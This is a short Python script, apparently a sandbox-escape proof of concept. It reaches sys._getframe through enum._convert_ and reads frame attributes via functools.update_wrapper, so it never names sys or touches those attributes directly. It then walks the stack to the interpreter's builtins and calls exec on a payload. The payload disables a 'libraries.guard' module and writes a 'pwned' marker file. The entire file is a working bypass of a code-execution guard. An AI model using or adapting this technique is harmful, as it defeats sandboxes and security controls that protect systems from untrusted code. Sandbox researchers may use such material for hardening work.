"""file: a frame of the interpreter itself leads to the modules that it has imported."""

import enum
import functools


class Kind(enum.Enum):
    pass


class Part:
    f_back = f_globals = None


def part(holder, name):
    return getattr(functools.update_wrapper(Part(), holder, assigned=(name,), updated=()), name)


found = getattr(Kind._convert_("Found", "sys", lambda name: name == "_getframe"), "_getframe").value
frame = staticmethod(found)()
for _ in range(200):
    names = part(frame, "f_globals")
    if "os" in names:
        break
    frame = part(frame, "f_back")
CODE = """
import sys
for n, m in [*sys.modules.items()]:
    if n.endswith("libraries.guard"):
        m._State["on"] = False
open("pwned_convert_of_the_interpreter", "w").close()
"""
x = functools.cache(names["__builtins__"]["exec"])(CODE)
